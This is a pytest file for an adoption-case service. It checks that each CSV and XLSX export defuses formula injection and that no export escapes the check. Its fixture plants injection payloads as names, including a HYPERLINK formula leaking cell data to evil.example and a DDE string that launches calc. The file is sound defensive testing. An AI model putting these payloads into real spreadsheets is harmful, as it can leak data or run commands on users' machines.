"""Every CSV and XLSX the service produces makes a formula inert: a cell that starts with ``=``, ``+``, ``-``, ``@``,
a tab or a carriage return is exported with a leading apostrophe (text), never as something a spreadsheet runs.

The demo region is loaded and its children, families and organisations renamed to formulas; then each export is made
the way a user makes it and every cell of every file it gives is read back. The lists below must name every export:
a new export (a route that gives a CSV or XLSX, or a module that writes one) fails the test until it is added.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from decimal import Decimal
from io import StringIO
from pathlib import Path

import pytest
from django.conf import settings
from django.core.management import call_command
from django.db.models import F, Value
from django.db.models.functions import Concat
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone
from openpyxl import load_workbook

from adopters.models import Applicant, Household
from adoption.models import Job, Organisation, User
from adoption.periods import FinancialQuarter
from adoption.spreadsheets import FORMULA_STARTS, csv_cell, neutralise, xlsx_sheet
from children.models import Child
from children.ssda903 import annex_a
from children.ssda903.export import ssda903_export_request
from reporting import annex_a_list_11
from reporting.data_pack.service import data_pack_request
from reporting.models import QuarterlyReturn
from reporting.services import quarterly_return_request
from tests import factories

pytestmark = pytest.mark.django_db

CHILD_FIRST = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
CHILD_LAST = "+cmd|' /C calc'!A0"
UPN = "-1+1"
CHILD_ID = "-"
REFERENCE = "@"
FAMILY = "=1+1 "
APPLICANT = "@SUM(1+1)"
ORGANISATION = "\t=2+2 "
PLANTED_STARTS = tuple(f"'{start}" for start in FORMULA_STARTS)
A_FIGURE = re.compile(r"^[+-]?\d+(\.\d+)?$")


# --- the neutraliser itself -----------------------------------------------------------------------------------------


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_each_formula_start_is_neutralised_in_text_and_in_csv(start):
    text = f"{start}HYPERLINK(1)"
    assert neutralise(text) == f"'{text}"
    assert csv_cell(text) == f"'{text}"


def test_the_six_formula_starts_are_all_covered():
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (-3, "-3"),
        (Decimal("-1.5"), "-1.5"),
        (-0.25, "-0.25"),
        ("-1+1", "'-1+1"),
        ("-3", "'-3"),  # text that looks like a figure is still text
        (float("-inf"), "'-inf"),  # a spreadsheet would read this as a formula
        (None, ""),
        ("Amelia", "Amelia"),
    ],
)
def test_a_number_stays_a_number_and_text_is_neutralised(value, cell):
    assert csv_cell(value) == cell


def test_an_xlsx_keeps_numbers_as_numbers_and_formulas_as_text():
    workbook = load_workbook(io.BytesIO(xlsx_sheet(title="T", headers=["=H1", "n"], rows=[["=1+1", -3], ["-1+1", 2]])))
    sheet = workbook["T"]
    assert [(c.value, c.data_type) for c in sheet[1]] == [("'=H1", "s"), ("n", "s")]
    assert [(c.value, c.data_type) for c in sheet[2]] == [("'=1+1", "s"), (-3, "n")]
    assert [(c.value, c.data_type) for c in sheet[3]] == [("'-1+1", "s"), (2, "n")]


# --- the exports ------------------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Export:
    """How a user makes one export, the files it gives ``(name, bytes)``, and whether planted names must be in it."""

    make: Callable[..., list[tuple[str, bytes]]]
    carries_names: bool = True


def _job_files(client, job: Job) -> list[tuple[str, bytes]]:
    job.refresh_from_db()
    assert job.status == Job.Status.SUCCEEDED, job.error
    response = client.get(reverse("job-download", args=[job.pk]))
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    if job.file.name.endswith(".zip"):
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            return [(name, archive.read(name)) for name in archive.namelist()]
    return [(job.file.name, content)]


def _get(client, url: str, name: str) -> list[tuple[str, bytes]]:
    response = client.get(url)
    assert response.status_code == 200, response.content[:500]
    return [(name, response.content)]


def _last_quarter() -> FinancialQuarter:
    return FinancialQuarter.last_complete(timezone.localdate())


def children_list(client, users, commit) -> list[tuple[str, bytes]]:
    client.force_login(users["manager"])
    return _get(client, reverse("children:export"), "children.csv")


def households_list(client, users, commit) -> list[tuple[str, bytes]]:
    client.force_login(users["manager"])
    return _get(client, reverse("adopters:export"), "households.csv")


def panel_quality(client, users, commit) -> list[tuple[str, bytes]]:
    """The quarter of the demo's latest PAR at a panel, rated by the panel adviser."""
    from panels import feedback
    from panels.models import AgendaPaper, PaperKind

    adviser = users["panel.adviser"]
    rated = (
        AgendaPaper.objects.filter(
            kind=PaperKind.PAR, replaced_at__isnull=True, item__meeting__held_on__lt=timezone.localdate()
        )
        .select_related("item__meeting")
        .order_by("-item__meeting__held_on")
        .first()
    )
    assert rated is not None, "the demo region has no PAR at a past panel"
    feedback.paper_ratings_record(actor=adviser, paper_id=rated.pk, ratings={"readability": 3, "evidence": 2})
    quarter = feedback.Quarter.containing(rated.item.meeting.held_on)
    client.force_login(adviser)
    url = f"{reverse('panels:quality-report')}?year={quarter.year}&quarter={quarter.number}&format=csv"
    return _get(client, url, "quality.csv")


def sufficiency(client, users, commit) -> list[tuple[str, bytes]]:
    from reporting.views_sufficiency import areas_for, quarter_code

    client.force_login(users["manager"])
    area = next(iter(areas_for(users["manager"])))
    url = f"{reverse('reporting:sufficiency')}?area={area}&to={quarter_code(_last_quarter())}&format=csv"
    return _get(client, url, "sufficiency.csv")


def ssda903(client, users, commit) -> list[tuple[str, bytes]]:
    worker = users["sw.coventry"]
    client.force_login(worker)
    la = worker.memberships.get().organisation
    with commit(execute=True):
        job = ssda903_export_request(actor=worker, la_id=la.pk, year_start=_last_quarter().year)
    return _job_files(client, job)


def annex_a_10(client, users, commit) -> list[tuple[str, bytes]]:
    worker = users["sw.coventry"]
    client.force_login(worker)
    la = worker.memberships.get().organisation
    with commit(execute=True):
        job = annex_a.annex_a_list_10_request(actor=worker, la_id=la.pk, as_at=timezone.localdate())
    return _job_files(client, job)


def annex_a_11(client, users, commit) -> list[tuple[str, bytes]]:
    manager = users["manager"]
    client.force_login(manager)
    raa = manager.memberships.get().organisation
    with commit(execute=True):
        job = annex_a_list_11.annex_a_list_11_request(actor=manager, agency_id=raa.pk, as_at=timezone.localdate())
    return _job_files(client, job)


def data_pack(client, users, commit) -> list[tuple[str, bytes]]:
    manager = users["manager"]
    client.force_login(manager)
    quarter = _last_quarter()
    with commit(execute=True):
        job = data_pack_request(
            actor=manager, cut="la", year=quarter.year, quarter=quarter.number, today=timezone.localdate()
        )
    return _job_files(client, job)


def _quarterly_return(manager: User, commit) -> QuarterlyReturn:
    quarter = _last_quarter()
    with commit(execute=True):
        job = quarterly_return_request(
            actor=manager,
            organisation_id=manager.memberships.get().organisation_id,
            year=quarter.year,
            quarter=quarter.number,
        )
    return QuarterlyReturn.objects.get(job=job)


def _content(response) -> bytes:
    assert response.status_code == 200, response.content[:300] if not response.streaming else response
    return b"".join(response.streaming_content) if response.streaming else response.content


def quarterly_return_pages(client, users, commit) -> list[tuple[str, bytes]]:
    """The RAA's return, from its pages."""
    made = _quarterly_return(users["manager"], commit)
    client.force_login(users["manager"])
    return [
        (name, _content(client.get(reverse(name, args=[made.pk]))))
        for name in ("reporting:return-xlsx", "reporting:return-children-csv", "reporting:return-families-csv")
    ]


def quarterly_return_api(client, users, commit) -> list[tuple[str, bytes]]:
    """An LA's return, through the LA's API client."""
    manager = users["manager.coventry"]
    made = _quarterly_return(manager, commit)
    _, token = factories.api_client_with_token(manager.memberships.get().organisation)
    auth = {"Authorization": f"Bearer {token}"}
    return [
        (kind, _content(client.get(reverse("api-returns-file", args=[made.pk, kind]), headers=auth)))
        for kind in ("xlsx", "children-csv", "families-csv")
    ]


EXPORTS: dict[str, Export] = {
    "children list (CSV)": Export(children_list),
    "households list (CSV)": Export(households_list),
    "panel papers' quality (CSV)": Export(panel_quality),
    "sufficiency forecast (CSV)": Export(sufficiency, carries_names=False),
    "SSDA903 return (ZIP of CSVs)": Export(ssda903),
    "Annex A list 10 (XLSX)": Export(annex_a_10),
    "Annex A list 11 (XLSX)": Export(annex_a_11),
    "data pack (XLSX)": Export(data_pack),
    "quarterly return (XLSX and CSVs, pages)": Export(quarterly_return_pages),
    "quarterly return (XLSX and CSVs, API)": Export(quarterly_return_api),
}

# URL names of the routes that give a CSV or XLSX, and the export above that walks each.
EXPORT_ROUTES = {
    "children:export": "children list (CSV)",
    "adopters:export": "households list (CSV)",
    "panels:quality-report": "panel papers' quality (CSV)",
    "reporting:sufficiency": "sufficiency forecast (CSV)",
    "ssda903:export": "SSDA903 return (ZIP of CSVs)",
    "ssda903:annex-a-list-10": "Annex A list 10 (XLSX)",
    "reporting:annex-a-list-11": "Annex A list 11 (XLSX)",
    "reporting:data-pack": "data pack (XLSX)",
    "reporting:return-xlsx": "quarterly return (XLSX and CSVs, pages)",
    "reporting:return-children-csv": "quarterly return (XLSX and CSVs, pages)",
    "reporting:return-families-csv": "quarterly return (XLSX and CSVs, pages)",
    "api-returns-file": "quarterly return (XLSX and CSVs, API)",
}

# Product modules that write (or serve) a CSV or XLSX, and the exports above that read what each gives.
WRITERS = {
    "adopters/views.py": ["households list (CSV)"],
    "reporting/api.py": ["quarterly return (XLSX and CSVs, API)"],  # serves the return's stored files
    "children/views/lists.py": ["children list (CSV)"],
    "children/ssda903/export.py": ["SSDA903 return (ZIP of CSVs)"],
    "children/ssda903/annex_a.py": ["Annex A list 10 (XLSX)"],
    "panels/feedback_views.py": ["panel papers' quality (CSV)"],
    "reporting/views_sufficiency.py": ["sufficiency forecast (CSV)"],
    "reporting/annex_a_list_11.py": ["Annex A list 11 (XLSX)"],
    "reporting/data_pack/files.py": ["data pack (XLSX)"],
    "reporting/returns.py": ["quarterly return (XLSX and CSVs, pages)", "quarterly return (XLSX and CSVs, API)"],
}
# Modules that name CSV but give no export: the neutraliser itself, the 903 import's tables handed to the DfE's
# validator (never given to a user), and the 903 upload page (the kinds of file it accepts).
NOT_EXPORTS = {
    "adoption/spreadsheets.py",
    "children/ssda903/reader.py",
    "children/ssda903/import_views.py",
    # The benchmark writes 903 files of synthetic data for the import it times: nothing a user downloads.
    "reporting/bench/ssda903.py",
}
APPS = ("adoption", "adopters", "children", "panels", "support", "reporting")
WRITES_A_SPREADSHEET = re.compile(
    r"csv\.writer\(|csv\.DictWriter\(|xlsx_workbook\(|xlsx_sheet\(|Workbook\(|text/csv|spreadsheetml"
)
EXPORT_ROUTE = re.compile(r"(\.csv|\.xlsx|csv|xlsx|export|data-pack|annex-a|quality-report|sufficiency|files/)")


def _routes(patterns, prefix: str = "", namespace: str = "") -> Iterator[tuple[str, str]]:
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            inner = f"{namespace}:{pattern.namespace}" if namespace and pattern.namespace else pattern.namespace
            yield from _routes(pattern.url_patterns, prefix + str(pattern.pattern), inner or namespace)
        elif isinstance(pattern, URLPattern) and pattern.name:
            yield prefix + str(pattern.pattern), f"{namespace}:{pattern.name}" if namespace else pattern.name


def test_every_route_that_gives_a_spreadsheet_is_walked():
    found = {
        name
        for route, name in _routes(get_resolver().url_patterns)
        if not route.startswith("admin/") and (EXPORT_ROUTE.search(route) or EXPORT_ROUTE.search(name))
    }
    assert found == set(EXPORT_ROUTES), "add the new export to EXPORTS and EXPORT_ROUTES"
    assert set(EXPORT_ROUTES.values()) <= set(EXPORTS)


def test_every_module_that_writes_a_spreadsheet_is_walked():
    base = Path(settings.BASE_DIR)
    writers = {
        str(path.relative_to(base))
        for app in APPS
        for path in (base / app).rglob("*.py")
        if "migrations" not in path.parts and WRITES_A_SPREADSHEET.search(path.read_text())
    }
    assert writers - NOT_EXPORTS == set(WRITERS), "add the new export to EXPORTS and WRITERS"
    assert {case for cases in WRITERS.values() for case in cases} <= set(EXPORTS)


# --- a region with formulas for names --------------------------------------------------------------------------------


@pytest.fixture
def formula_region(db) -> dict[str, User]:
    """The demo region, its children, families, applicants and organisations renamed to formulas; its staff by
    username."""
    call_command("load_demo", seed=2026, stdout=StringIO())
    Child.objects.update(first_name=CHILD_FIRST, last_name=CHILD_LAST, upn=UPN)
    Child.objects.exclude(la_child_id="").update(la_child_id=Concat(Value(CHILD_ID), F("la_child_id")))
    Household.objects.update(name=Concat(Value(FAMILY), F("name")), reference=Concat(Value(REFERENCE), F("reference")))
    Applicant.objects.update(first_name=APPLICANT)
    Organisation.objects.update(name=Concat(Value(ORGANISATION), F("name")))
    return {user.username: user for user in User.objects.all()}


def _cells(name: str, content: bytes) -> Iterator[tuple[str, object, str]]:
    """Every cell of a file: (where, value, kind) with kind "formula", "number" or "text"."""
    if content.startswith(b"PK"):
        workbook = load_workbook(io.BytesIO(content))
        for sheet in workbook.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.value is None:
                        continue
                    kind = "formula" if cell.data_type == "f" else "text" if isinstance(cell.value, str) else "number"
                    yield f"{name} {sheet.title}!{cell.coordinate}", cell.value, kind
        return
    for number, line in enumerate(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")), start=1):
        for column, value in enumerate(line, start=1):
            yield f"{name} row {number} column {column}", value, "number" if A_FIGURE.match(value) else "text"


@pytest.mark.parametrize("case", list(EXPORTS))
def test_no_cell_of_any_export_can_run_as_a_formula(case, client, formula_region, django_capture_on_commit_callbacks):
    export = EXPORTS[case]
    files = export.make(client, formula_region, django_capture_on_commit_callbacks)
    assert files, "the export gave no file"
    cells = [cell for name, content in files for cell in _cells(name, content)]
    assert len(cells) > 10, "the export gave (almost) nothing to read"
    runnable = [
        (where, value)
        for where, value, kind in cells
        if kind == "formula" or (kind == "text" and str(value).startswith(FORMULA_STARTS))
    ]
    assert runnable == []
    if export.carries_names:
        neutralised = {
            str(value) for _where, value, kind in cells if kind == "text" and str(value).startswith(PLANTED_STARTS)
        }
        assert neutralised, "none of the formula names reached the export: it tests nothing"
